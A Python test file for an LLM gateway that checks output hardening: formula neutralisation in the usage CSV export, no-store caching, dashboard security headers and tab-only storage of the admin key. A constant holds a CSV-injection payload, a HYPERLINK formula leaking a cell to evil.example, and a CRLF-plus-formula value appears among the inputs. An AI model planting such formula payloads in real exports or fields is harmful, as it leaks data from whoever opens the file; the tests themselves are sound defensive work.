"""Output that reaches people and their tools: the usage CSV a spreadsheet opens, the alias a
caller's request leaves behind, and the dashboard a browser runs with the admin key."""

from __future__ import annotations

import csv
import io
import re
import time
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from router.accounting.ledger import LedgerRow
from router.http.dashboard import STATIC
from router.routing.auth import key_digest
from router.routing.call import UNKNOWN_ALIAS, Call
from tests.unit.helpers import (
    CHAT,
    World,
    assert_openai_error,
    bearer,
    config,
    gateway_app,
    lifespan_client,
)

ADMIN_KEY = "sk-admin-output-hardening"
APP_KEY = "sk-app-output-hardening"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")'


@pytest.fixture
async def app_client() -> AsyncIterator[tuple[Any, httpx.AsyncClient]]:
    cfg = config(callers={"app": {"key_sha256": [key_digest(APP_KEY)]}},
                 admin_key_sha256=[key_digest(ADMIN_KEY)])
    app = gateway_app(World(), cfg)
    async with lifespan_client(app) as c:
        yield app.state.runtime, c


# -- the alias a request leaves behind -------------------------------------------------


@pytest.mark.parametrize("model", [FORMULA, "no-such-model", "demo\r\n=1+1"])
async def test_a_model_not_in_the_catalog_is_recorded_as_the_unknown_marker(
        app_client: tuple[Any, httpx.AsyncClient], model: str) -> None:
    rt, c = app_client
    seen: list[str] = []

    def observe(call: Call) -> None:
        seen.append(call.facts.alias)

    rt.recorder.observers.append(observe)
    r = await c.post("/v1/chat/completions", json={**CHAT, "model": model},
                     headers=bearer(APP_KEY))
    assert assert_openai_error(r, 404)["code"] == "model_not_found"
    ok = await c.post("/v1/chat/completions", json=CHAT, headers=bearer(APP_KEY))
    assert ok.status_code == 200, ok.text
    assert seen == [UNKNOWN_ALIAS, "demo"]


# -- the usage export --------------------------------------------------------------------


async def test_the_usage_csv_neutralises_formulas_already_in_the_ledger(
        app_client: tuple[Any, httpx.AsyncClient]) -> None:
    rt, c = app_client
    # Rows written before aliases were checked (or by another replica) may hold anything.
    for rid, alias in (("r1", FORMULA), ("r2", "@SUM(A1:A2)"), ("r3", "demo")):
        await rt.ledger.record(LedgerRow(
            ts=time.time(), request_id=rid, caller="app", alias=alias, route="local",
            backend="demo-local", model_id="demo", prompt_tokens=1, completion_tokens=1,
            cost_usd=0.0, hosted_equiv_usd=0.0, latency_s=0.1, ttft_s=None, status=200,
            reason="local-ok", endpoint="chat"))
    r = await c.get("/v1/usage", params={"format": "csv", "group_by": "alias"},
                    headers=bearer(ADMIN_KEY))
    assert r.status_code == 200, r.text
    assert r.headers["cache-control"] == "no-store"
    aliases = [row["alias"] for row in csv.DictReader(io.StringIO(r.text))]
    assert sorted(aliases) == sorted(["'" + FORMULA, "'@SUM(A1:A2)", "demo"])
    assert not any(a.startswith(("=", "+", "-", "@")) for a in aliases)


# -- what browsers and proxies may keep ----------------------------------------------------


async def test_status_and_usage_are_never_stored(
        app_client: tuple[Any, httpx.AsyncClient]) -> None:
    _, c = app_client
    for path, key in (("/status", ADMIN_KEY), ("/v1/usage", ADMIN_KEY),
                      ("/v1/usage", APP_KEY), ("/v1/usage?format=csv", APP_KEY)):
        r = await c.get(path, headers=bearer(key))
        assert r.status_code == 200, (path, r.text)
        assert r.headers["cache-control"] == "no-store", path


# -- the dashboard ---------------------------------------------------------------------------


def directives(policy: str) -> dict[str, str]:
    parts = (p.strip().split(None, 1) for p in policy.split(";") if p.strip())
    return {p[0]: p[1] if len(p) > 1 else "" for p in parts}


async def test_the_dashboard_and_its_assets_carry_the_security_headers(
        app_client: tuple[Any, httpx.AsyncClient]) -> None:
    _, c = app_client
    page = await c.get("/dashboard")
    assert page.status_code == 200
    assets = re.findall(r'(?:src|href)="(/dashboard/assets/[^"]+)"', page.text)
    assert {a.rsplit("/", 1)[1] for a in assets} == {"dashboard.css", "dashboard.js"}
    meta = re.search(r'http-equiv="Content-Security-Policy"\s+content="([^"]+)"', page.text)
    assert meta is not None
    for r in [page, *[await c.get(a) for a in assets]]:
        assert r.status_code == 200, r.url
        policy = directives(r.headers["content-security-policy"])
        # What the page's meta tag says, and what only a header can say: no framing.
        assert policy.items() >= directives(meta.group(1)).items(), r.url
        assert policy["frame-ancestors"] == "'none'"
        assert policy["default-src"] == "'none'" and policy["script-src"] == "'self'"
        assert r.headers["x-frame-options"] == "DENY"
        assert r.headers["x-content-type-options"] == "nosniff"


def test_the_dashboard_keeps_the_admin_key_for_the_tab_only() -> None:
    """The browser test (tests/e2e/test_dashboard_e2e.py) checks the storage the page
    uses; this one that no code path of the script writes or reads localStorage but the
    clean-up of a key an earlier version left there."""
    script = (STATIC / "dashboard.js").read_text()
    uses = re.findall(r"localStorage\.(\w+)\(", script)
    assert uses == ["removeItem"]
    assert "sessionStorage.setItem(KEY_STORE, key)" in script
    assert "sessionStorage.getItem(KEY_STORE)" in script
    assert "local storage" not in (STATIC / "dashboard.html").read_text()
